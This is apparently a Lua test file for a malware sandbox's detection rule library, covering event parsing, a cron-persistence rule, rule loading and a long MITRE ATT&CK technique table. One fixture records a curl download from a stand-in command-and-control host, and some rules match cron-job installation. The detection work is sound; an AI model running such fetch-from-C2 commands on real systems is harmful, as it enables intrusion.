-- SPDX-License-Identifier: MIT
-- The rule library (rules/*.lua) and what it is built on: sbx.facts (the
-- evidence of a run by process), sbx.rulekit (rules as evidence), the
-- loading of rule files and directories (sbx.verdict), the ATT&CK fields
-- of the behaviour summary and the batch summary.  Every technique id the
-- library names is pinned here to its ATT&CK name and tactic (reviewed
-- against ATT&CK's own descriptions), and docs/batch.md's coverage table
-- is checked against the rules themselves.  No box: tests/techniques_spec.lua
-- and tests/benign_spec.lua run real programs.
local S = require "support"
local facts = require "sbx.facts"
local kit = require "sbx.rulekit"
local verdict = require "sbx.verdict"
local behaviour = require "sbx.behaviour"
local batch = require "sbx.batch"

local function exec(pid, ppid, path, argv, extra)
	local e = { kind = "exec", pid = pid, ppid = ppid, path = path, argv = argv, answer = "allow", cwd = "/work" }
	for k, v in pairs(extra or {}) do e[k] = v end
	return e
end

describe("sbx.facts [" .. S.priv .. "]", function()
	it("follows each process's image and parent, a fork without exec runs its parent's", function()
		local F = facts.of { events = {
			exec(2, 1, "/usr/bin/sh", { "sh", "x.sh" }),
			{ kind = "clone", pid = 2, ppid = 1, answer = "allow" },
			-- pid 3: a subshell that never executed; pid 4 its child
			{ kind = "open", pid = 3, ppid = 2, path = "/tmp/out", flags = 577, answer = "allow" },
			exec(4, 3, "/usr/bin/curl", { "curl", "-o", "/tmp/x", "http://c2.example/x" }),
			{ kind = "connect", pid = 4, ppid = 3, family = "inet", addr = "10.0.0.2:80", protocol = "tcp",
				answer = "allow", syscall = "connect" },
			{ kind = "delete", pid = 2, ppid = 1, path = "/work/x.sh", answer = "allow", syscall = "unlink" },
			{ kind = "ptrace", pid = 2, ppid = 1, flags = 0, answer = "deny", syscall = "ptrace" },
		}, sink = { dns = { { hostname = "c2.example", answer = "10.0.0.2" } } } }
		assert.are.equal(2, #F.execs)
		assert.are.same({ "/usr/bin/curl", "/usr/bin/sh", "sh x.sh" },
			{ F.execs[2].image, F.execs[2].parent_image, F.execs[2].parent_cmdline })
		assert.are.same({ "/tmp/out", "/usr/bin/sh", true, true },
			{ F.opens[1].path, F.opens[1].image, F.opens[1].write, F.opens[1].create })
		assert.are.same({ { path = "/tmp/out", how = "open", image = "/usr/bin/sh" } }, F.written)
		assert.are.same({ "10.0.0.2", 80, "tcp", "c2.example", "/usr/bin/curl" },
			{ F.connects[1].ip, F.connects[1].port, F.connects[1].protocol, F.connects[1].hostname,
				F.connects[1].image })
		assert.are.same({ call = "ptrace", image = "/usr/bin/sh" }, F.refused[1])
		assert.are.equal("/usr/bin/sh", F.command)
	end)

	it("takes any table and refuses anything else", function()
		assert.are.same({}, facts.of({}).execs)
		assert.are.same({}, facts.of({ events = "x" }).opens)
		assert.are.same({}, facts.of({ events = { 1, "x", { kind = "open" } } }).opens)
		assert.has_error(function() facts.of(nil) end, "bad argument #1 to 'of' (table expected, got nil)")
	end)
end)

describe("sbx.rulekit [" .. S.priv .. "]", function()
	local rule = kit.technique { id = "T1053.003", name = "cron", tactic = "persistence", severity = 6,
		what = "installed a cron job", write = { "^/etc/cron%.d/" }, exec = { "^crontab [^%-]" },
		unless = { "^crontab /tmp/ok" } }

	local function run_of(events) return { events = events } end

	it("quotes the first evidence and counts the rest", function()
		local run = run_of {
			exec(2, 1, "/usr/bin/crontab", { "crontab", "/tmp/ok" }),
			exec(3, 1, "/usr/bin/crontab", { "/usr/bin/crontab", "/tmp/x" }),
			{ kind = "open", pid = 4, path = "/etc/cron.d/a", flags = 577, answer = "allow" },
			{ kind = "open", pid = 4, path = "/etc/cron.d/b", flags = 1, answer = "allow" } }
		local f = rule.fn(run, facts.of(run))
		assert.are.same({ verdict = "suspicious", severity = 6,
			reason = "installed a cron job: ran `crontab /tmp/x`" }, f)
		run = run_of { { kind = "open", pid = 4, path = "/etc/cron.d/a", flags = 577, answer = "allow" },
			{ kind = "open", pid = 4, path = "/etc/cron.d/b", flags = 1, answer = "allow" } }
		assert.are.equal("installed a cron job: wrote /etc/cron.d/a (2 in all)", rule.fn(run, facts.of(run)).reason)
		-- a read is no write; `unless` leaves a match out
		run = run_of { { kind = "open", pid = 4, path = "/etc/cron.d/a", flags = 0, answer = "allow" },
			exec(2, 1, "/usr/bin/crontab", { "crontab", "/tmp/ok" }) }
		assert.is_nil(rule.fn(run, facts.of(run)))
		assert.are.same({ "T1053.003" }, rule.attack)
		assert.are.equal("installed a cron job (evidence: exec, write)", rule.doc)
	end)

	it("maps a severity to a verdict", function()
		assert.are.same({ "info", "info", "suspicious", "suspicious", "malicious" },
			{ kit.verdict_of(0), kit.verdict_of(2), kit.verdict_of(3), kit.verdict_of(6), kit.verdict_of(7) })
	end)
end)

describe("rule files [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	local function write(path, text)
		local f = assert(io.open(path, "w"))
		f:write(text)
		f:close()
	end

	it("a directory: every .lua file by name, subdirectories, no symlink followed", function()
		local d, rm = S.tmpdir()
		os.execute("chmod 755 " .. S.q(d) .. " && mkdir " .. S.q(d .. "/sub"))
		write(d .. "/b.lua", 'return { { name = "b", fn = function() end } }')
		write(d .. "/a.lua", 'return { rulekit.technique { id = "T1070.006", name = "a", what = "w", '
			.. 'exec = { "^touch %-d" } } }')
		write(d .. "/sub/c.lua", 'return { { name = "c", attack = { "T1529" }, severity = 7, '
			.. 'fn = function() return { verdict = "malicious", severity = 7, reason = "r" } end } }')
		write(d .. "/notes.txt", "not a rule")
		write(d .. "/elsewhere.lua", 'return { { name = "linked", fn = function() end } }')
		os.execute("ln -s elsewhere.lua " .. S.q(d .. "/z.lua"))
		local rules, skipped, digest = verdict.load(d)
		local names = {}
		for _, r in ipairs(assert(rules, skipped)) do names[#names + 1] = r.name end
		assert.are.same({ "a", "b", "linked", "c" }, names)
		assert.are.same({}, skipped)
		assert.matches("^%x+$", digest)
		-- a finding without ids takes its rule's
		local v = verdict.judge({}, rules)
		assert.are.same({ "malicious", { "T1529" } }, { v.verdict, v.reasons[1].attack })
		-- a directory others can write is refused
		os.execute("chmod 777 " .. S.q(d .. "/sub"))
		local r2, msg = verdict.load(d)
		assert.is_nil(r2)
		assert.matches("writable by others", msg)
		rm()
	end)

	it("dir:list: regular files and directories only, by descriptor; a closed dir raises", function()
		local core = require "sbx.core"
		local d, rm = S.tmpdir()
		write(d .. "/f", "x")
		os.execute(("cd %s && mkdir sub && ln -s f link && ln -s /etc elink && mkfifo fifo"):format(S.q(d)))
		local dir = assert(core.open_dir(d))
		local got = {}
		for _, e in ipairs(assert(dir:list())) do got[#got + 1] = e.name .. ":" .. e.type end
		table.sort(got)
		assert.are.same({ "f:file", "sub:dir" }, got)
		dir:close()
		assert.has_error(function() dir:list() end, "attempt to use a closed directory")
		rm()
	end)

	it("a rule's fields are checked", function()
		assert.is_nil((verdict.check_rule { name = "a", fn = print, attack = { "x" } }))
		assert.is_nil((verdict.check_rule { name = "a", fn = print, attack = "T1529" }))
		assert.is_nil((verdict.check_rule { name = "a", fn = print, severity = 11 }))
		assert.is_nil((verdict.check_rule { name = "a", fn = print, tactic = 1 }))
		assert.is_table((verdict.check_rule { name = "a", fn = print, severity = 3, tactic = "impact",
			attack = { "T1529" }, doc = "d" }))
		assert.has_error(function() verdict.load(1) end, "bad argument #1 to 'load' (string expected, got number)")
		assert.is_nil((verdict.load("/nonexistent/rules")))
	end)
end)

-- Every ATT&CK id the library names, with its name and the tactic the
-- rule files it under (one of ATT&CK's tactics for it).
local REVIEWED = {
	["T1003.007"] = { "Proc Filesystem", "credential-access" },
	["T1003.008"] = { "/etc/passwd and /etc/shadow", "credential-access" },
	T1005 = { "Data from Local System", "collection" },
	T1007 = { "System Service Discovery", "discovery" },
	T1016 = { "System Network Configuration Discovery", "discovery" },
	T1018 = { "Remote System Discovery", "discovery" },
	["T1021.004"] = { "Remote Services: SSH", "lateral-movement" },
	T1027 = { "Obfuscated Files or Information", "defense-evasion" },
	T1033 = { "System Owner/User Discovery", "discovery" },
	["T1036.005"] = { "Masquerading: Match Legitimate Resource Name or Location", "defense-evasion" },
	["T1037.004"] = { "Boot or Logon Initialization Scripts: RC Scripts", "persistence" },
	T1040 = { "Network Sniffing", "credential-access" },
	T1041 = { "Exfiltration Over C2 Channel", "exfiltration" },
	["T1048.003"] = { "Exfiltration Over Unencrypted Non-C2 Protocol", "exfiltration" },
	T1049 = { "System Network Connections Discovery", "discovery" },
	["T1053.002"] = { "Scheduled Task/Job: At", "persistence" },
	["T1053.003"] = { "Scheduled Task/Job: Cron", "persistence" },
	["T1053.006"] = { "Scheduled Task/Job: Systemd Timers", "persistence" },
	["T1055.008"] = { "Process Injection: Ptrace System Calls", "privilege-escalation" },
	["T1055.009"] = { "Process Injection: Proc Memory", "privilege-escalation" },
	["T1056.001"] = { "Input Capture: Keylogging", "credential-access" },
	T1057 = { "Process Discovery", "discovery" },
	["T1059.004"] = { "Command and Scripting Interpreter: Unix Shell", "execution" },
	["T1059.006"] = { "Command and Scripting Interpreter: Python", "execution" },
	["T1069.001"] = { "Permission Groups Discovery: Local Groups", "discovery" },
	["T1070.002"] = { "Indicator Removal: Clear Linux or Mac System Logs", "defense-evasion" },
	["T1070.003"] = { "Indicator Removal: Clear Command History", "defense-evasion" },
	["T1070.004"] = { "Indicator Removal: File Deletion", "defense-evasion" },
	["T1070.006"] = { "Indicator Removal: Timestomp", "defense-evasion" },
	["T1071.001"] = { "Application Layer Protocol: Web Protocols", "command-and-control" },
	T1082 = { "System Information Discovery", "discovery" },
	T1083 = { "File and Directory Discovery", "discovery" },
	["T1087.001"] = { "Account Discovery: Local Account", "discovery" },
	T1090 = { "Proxy", "command-and-control" },
	T1098 = { "Account Manipulation", "persistence" },
	["T1098.004"] = { "Account Manipulation: SSH Authorized Keys", "persistence" },
	T1105 = { "Ingress Tool Transfer", "command-and-control" },
	T1110 = { "Brute Force", "credential-access" },
	T1113 = { "Screen Capture", "collection" },
	T1115 = { "Clipboard Data", "collection" },
	T1123 = { "Audio Capture", "collection" },
	T1124 = { "System Time Discovery", "discovery" },
	T1125 = { "Video Capture", "collection" },
	T1129 = { "Shared Modules", "execution" },
	T1135 = { "Network Share Discovery", "discovery" },
	["T1136.001"] = { "Create Account: Local Account", "persistence" },
	T1140 = { "Deobfuscate/Decode Files or Information", "defense-evasion" },
	T1201 = { "Password Policy Discovery", "discovery" },
	T1217 = { "Browser Information Discovery", "discovery" },
	["T1222.002"] = { "File and Directory Permissions Modification: Linux and Mac", "defense-evasion" },
	T1485 = { "Data Destruction", "impact" },
	T1486 = { "Data Encrypted for Impact", "impact" },
	T1489 = { "Service Stop", "impact" },
	T1490 = { "Inhibit System Recovery", "impact" },
	["T1491.001"] = { "Defacement: Internal Defacement", "impact" },
	T1496 = { "Resource Hijacking", "impact" },
	["T1497.001"] = { "Virtualization/Sandbox Evasion: System Checks", "defense-evasion" },
	["T1497.003"] = { "Virtualization/Sandbox Evasion: Time Based Evasion", "defense-evasion" },
	T1499 = { "Endpoint Denial of Service", "impact" },
	["T1505.003"] = { "Server Software Component: Web Shell", "persistence" },
	T1518 = { "Software Discovery", "discovery" },
	["T1518.001"] = { "Software Discovery: Security Software Discovery", "discovery" },
	T1529 = { "System Shutdown/Reboot", "impact" },
	T1531 = { "Account Access Removal", "impact" },
	T1539 = { "Steal Web Session Cookie", "credential-access" },
	["T1543.002"] = { "Create or Modify System Process: Systemd Service", "persistence" },
	["T1546.004"] = { "Event Triggered Execution: Unix Shell Configuration Modification", "persistence" },
	["T1546.017"] = { "Event Triggered Execution: Udev Rules", "persistence" },
	["T1547.006"] = { "Boot or Logon Autostart Execution: Kernel Modules and Extensions", "persistence" },
	["T1547.013"] = { "Boot or Logon Autostart Execution: XDG Autostart Entries", "persistence" },
	["T1548.001"] = { "Abuse Elevation Control Mechanism: Setuid and Setgid", "privilege-escalation" },
	["T1548.003"] = { "Abuse Elevation Control Mechanism: Sudo and Sudo Caching", "privilege-escalation" },
	["T1564.001"] = { "Hide Artifacts: Hidden Files and Directories", "defense-evasion" },
	["T1552.001"] = { "Unsecured Credentials: Credentials In Files", "credential-access" },
	["T1552.003"] = { "Unsecured Credentials: Shell History", "credential-access" },
	["T1552.004"] = { "Unsecured Credentials: Private Keys", "credential-access" },
	T1554 = { "Compromise Host Software Binary", "persistence" },
	T1555 = { "Credentials from Password Stores", "credential-access" },
	["T1555.003"] = { "Credentials from Password Stores: Credentials from Web Browsers", "credential-access" },
	["T1556.003"] = { "Modify Authentication Process: Pluggable Authentication Modules", "persistence" },
	["T1560.001"] = { "Archive Collected Data: Archive via Utility", "collection" },
	["T1562.001"] = { "Impair Defenses: Disable or Modify Tools", "defense-evasion" },
	["T1562.004"] = { "Impair Defenses: Disable or Modify System Firewall", "defense-evasion" },
	["T1562.012"] = { "Impair Defenses: Disable or Modify Linux Audit System", "defense-evasion" },
	["T1565.001"] = { "Data Manipulation: Stored Data Manipulation", "impact" },
	["T1567.002"] = { "Exfiltration Over Web Service: Exfiltration to Cloud Storage", "exfiltration" },
	T1570 = { "Lateral Tool Transfer", "lateral-movement" },
	T1571 = { "Non-Standard Port", "command-and-control" },
	T1572 = { "Protocol Tunneling", "command-and-control" },
	["T1574.006"] = { "Hijack Execution Flow: Dynamic Linker Hijacking", "persistence" },
	T1611 = { "Escape to Host", "privilege-escalation" },
	["T1614.001"] = { "System Location Discovery: System Language Discovery", "discovery" },
	T1613 = { "Container and Resource Discovery", "discovery" },
	T1620 = { "Reflective Code Loading", "defense-evasion" },
	T1622 = { "Debugger Evasion", "defense-evasion" },
	["T1562.003"] = { "Impair Defenses: Impair Command History Logging", "defense-evasion" },
	["T1562.006"] = { "Impair Defenses: Indicator Blocking", "defense-evasion" },
	["T1070.008"] = { "Indicator Removal: Clear Mailbox Data", "defense-evasion" },
	["T1553.004"] = { "Subvert Trust Controls: Install Root Certificate", "defense-evasion" },
	["T1036.003"] = { "Masquerading: Rename Legitimate Utilities", "defense-evasion" },
	["T1036.006"] = { "Masquerading: Space after Filename", "defense-evasion" },
	["T1027.001"] = { "Obfuscated Files or Information: Binary Padding", "defense-evasion" },
	["T1027.002"] = { "Obfuscated Files or Information: Software Packing", "defense-evasion" },
	["T1027.004"] = { "Obfuscated Files or Information: Compile After Delivery", "defense-evasion" },
	["T1546.005"] = { "Event Triggered Execution: Trap", "persistence" },
	["T1560.002"] = { "Archive Collected Data: Archive via Library", "collection" },
	["T1074.001"] = { "Data Staged: Local Data Staging", "collection" },
	T1030 = { "Data Transfer Size Limits", "exfiltration" },
	["T1132.001"] = { "Data Encoding: Standard Encoding", "command-and-control" },
	T1614 = { "System Location Discovery", "discovery" },
	T1046 = { "Network Service Discovery", "discovery" },
	-- techniques simply present and the corpus's further ids
	["T1059.001"] = { "Command and Scripting Interpreter: PowerShell", "execution" },
	["T1059.007"] = { "Command and Scripting Interpreter: JavaScript", "execution" },
	["T1059.011"] = { "Command and Scripting Interpreter: Lua", "execution" },
	T1609 = { "Container Administration Command", "execution" },
	T1610 = { "Deploy Container", "execution" },
	T1612 = { "Build Image on Host", "defense-evasion" },
	["T1053.007"] = { "Scheduled Task/Job: Container Orchestration Job", "persistence" },
	T1072 = { "Software Deployment Tools", "execution" },
	T1219 = { "Remote Access Tools", "command-and-control" },
	["T1071.002"] = { "Application Layer Protocol: File Transfer Protocols", "command-and-control" },
	["T1071.003"] = { "Application Layer Protocol: Mail Protocols", "command-and-control" },
	["T1071.004"] = { "Application Layer Protocol: DNS", "command-and-control" },
	T1095 = { "Non-Application Layer Protocol", "command-and-control" },
	T1102 = { "Web Service", "command-and-control" },
	["T1573.002"] = { "Encrypted Channel: Asymmetric Cryptography", "command-and-control" },
	["T1568.002"] = { "Dynamic Resolution: Domain Generation Algorithms", "command-and-control" },
	["T1090.003"] = { "Proxy: Multi-hop Proxy", "command-and-control" },
	T1120 = { "Peripheral Device Discovery", "discovery" },
	T1652 = { "Device Driver Discovery", "discovery" },
	T1010 = { "Application Window Discovery", "discovery" },
	T1654 = { "Log Enumeration", "discovery" },
	["T1016.001"] = { "System Network Configuration Discovery: Internet Connection Discovery", "discovery" },
	T1580 = { "Cloud Infrastructure Discovery", "discovery" },
	T1619 = { "Cloud Storage Object Discovery", "discovery" },
	T1119 = { "Automated Collection", "collection" },
	["T1114.001"] = { "Email Collection: Local Email Collection", "collection" },
	T1025 = { "Data from Removable Media", "collection" },
	T1039 = { "Data from Network Shared Drive", "collection" },
	["T1052.001"] = { "Exfiltration Over Physical Medium: Exfiltration over USB", "exfiltration" },
	T1020 = { "Automated Exfiltration", "exfiltration" },
	T1029 = { "Scheduled Transfer", "exfiltration" },
	["T1567.001"] = { "Exfiltration Over Web Service: Exfiltration to Code Repository", "exfiltration" },
	["T1048.002"] = { "Exfiltration Over Alternative Protocol: Exfiltration Over Asymmetric Encrypted Non-C2 Protocol",
		"exfiltration" },
	["T1552.005"] = { "Unsecured Credentials: Cloud Instance Metadata API", "credential-access" },
	["T1552.007"] = { "Unsecured Credentials: Container API", "credential-access" },
	["T1110.002"] = { "Brute Force: Password Cracking", "credential-access" },
	["T1557.002"] = { "Adversary-in-the-Middle: ARP Cache Poisoning", "credential-access" },
	["T1563.001"] = { "Remote Service Session Hijacking: SSH Hijacking", "lateral-movement" },
	["T1078.003"] = { "Valid Accounts: Local Accounts", "privilege-escalation" },
	["T1574.007"] = { "Hijack Execution Flow: Path Interception by PATH Environment Variable", "privilege-escalation" },
	T1176 = { "Software Extensions", "persistence" },
	["T1036.004"] = { "Masquerading: Masquerade Task or Service", "defense-evasion" },
	["T1036.007"] = { "Masquerading: Double File Extension", "defense-evasion" },
	["T1036.008"] = { "Masquerading: Masquerade File Type", "defense-evasion" },
	["T1036.009"] = { "Masquerading: Break Process Trees", "defense-evasion" },
	["T1070.009"] = { "Indicator Removal: Clear Persistence", "defense-evasion" },
	["T1027.010"] = { "Obfuscated Files or Information: Command Obfuscation", "defense-evasion" },
	["T1561.001"] = { "Disk Wipe: Disk Content Wipe", "impact" },
	["T1561.002"] = { "Disk Wipe: Disk Structure Wipe", "impact" },
	T1495 = { "Firmware Corruption", "impact" },
	T1498 = { "Network Denial of Service", "impact" },
}

describe("the rule library [" .. S.priv .. "]", function()
	local rules = assert(verdict.defaults())

	it("names every technique by a reviewed id, under its tactic", function()
		local ids, names = {}, {}
		for _, r in ipairs(rules) do
			assert.is_nil(names[r.name], "two rules named " .. r.name)
			names[r.name] = true
			for _, id in ipairs(r.attack or {}) do
				assert.is_table(REVIEWED[id], ("%s: %s is not a reviewed id"):format(r.name, id))
				ids[id] = true
				if #r.attack == 1 and r.tactic ~= "box" then
					assert.are.equal(REVIEWED[id][2], r.tactic, r.name)
				end
			end
			assert.is_string(r.doc, r.name)
		end
		local n = 0
		for _ in pairs(ids) do n = n + 1 end
		assert.is_true(n >= 60, ("%d techniques"):format(n))
	end)

	it("docs/batch.md's coverage table is the rules' own", function()
		local out = S.sh(S.bin .. " scripts/rules-table.lua")
		local f = assert(io.open("docs/batch.md"))
		local doc = f:read("a")
		f:close()
		local tbl = doc:match("<!%-%- rules%-table %-%->\n(.-)<!%-%- /rules%-table %-%->")
		assert.is_string(tbl, "docs/batch.md has no rules-table markers")
		assert.are.equal(out, tbl)
	end)
end)

describe("ATT&CK in the summaries [" .. S.priv .. "]", function()
	it("mitre_attack_techniques: each id once, from its most severe finding", function()
		local s = behaviour.summary { events = {} }
		behaviour.judged(s, { reasons = {
			{ rule = "a", verdict = "info", severity = 1, reason = "ran `uname -a`", attack = { "T1082" } },
			{ rule = "b", verdict = "suspicious", severity = 5, reason = "x", attack = { "T1082", "T1041" } } } })
		assert.are.same({
			{ id = "T1041", signature_description = "x", severity = "IMPACT_SEVERITY_MEDIUM", rule = "b" },
			{ id = "T1082", signature_description = "x", severity = "IMPACT_SEVERITY_MEDIUM", rule = "b" } },
			s.mitre_attack_techniques)
		assert.matches("mitre_attack_techniques  T1041 medium %(b%)\n", behaviour.text(s))
	end)

	it("a batch's summary counts the programs per technique", function()
		local s = batch.summary { { program = "a", verdict = "clean", outcome = "exit",
			reasons = { { attack = { "T1082" } }, { attack = { "T1082", "T1033" } } } },
			{ program = "b", verdict = "malicious", outcome = "exit", reasons = { { attack = { "T1082" } } } } }
		assert.are.same({ T1082 = 2, T1033 = 1 }, s.techniques)
		assert.matches("batch: technique T1033: 1\nbatch: technique T1082: 2\n", batch.summary_text(s))
	end)
end)
